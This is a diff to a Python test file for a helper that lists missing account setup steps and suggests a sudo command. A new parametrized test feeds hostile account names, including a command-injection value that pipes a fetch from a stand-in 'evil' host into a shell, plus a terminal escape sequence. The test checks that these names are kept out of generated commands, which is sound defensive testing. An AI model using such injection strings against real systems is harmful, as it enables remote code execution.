@@ -46,15 +46,25 @@ def test_each_step_is_looked_for(host: Host) -> None:
     root = Path(host.root)
     user = account(password_hash="v1$x", superuser=True)
     (root / "etc/subuid").write_text("nobody:165536:65535\n")
-    assert left_to_do.look(user, host).steps == ["subordinate uids"]
+    mark = (
+        "administrator's mark (--superuser, if that was your word)"  # the row's own is no reason to give it
+    )
+    assert left_to_do.look(user, host).steps == ["subordinate uids", mark]
     (root / "etc/subuid").write_text(f"{NOBODY.pw_uid}:165536:65536\n")
     (root / "etc/subgid").unlink()
-    assert left_to_do.look(user, host).steps == ["subordinate gids"]
+    assert left_to_do.look(user, host).steps == ["subordinate gids", mark]
     host.enrolled[1] = Enrolled("nobody", 4001)
     (root / "run/systemd/system").mkdir(parents=True)
     os.rmdir(root / NOBODY.pw_dir.lstrip("/"))
-    steps = ["home directory", "subordinate gids", "lingering", "enrolment"]
-    assert left_to_do.look(user, host)[:2] == (steps, "sudo svc admin create-user nobody --superuser")
+    steps = ["home directory", "subordinate gids", "lingering", "enrolment", mark]
+    assert left_to_do.look(user, host)[:2] == (steps, "sudo svc admin create-user nobody")
+
+
+@pytest.mark.parametrize("name", ["x; curl evil|sh #", "\x1b]0;x\x07", "nul\0", "-x", ""])
+def test_no_command_is_made_of_what_is_no_name(host: Host, name: str) -> None:
+    found = left_to_do.look(account(name=name), host)
+    assert found.command == "sudo svc admin doctor"
+    assert name not in "".join(found.steps) or not name
 
 
 def test_without_a_linux_account_all_is_left(host: Host) -> None:
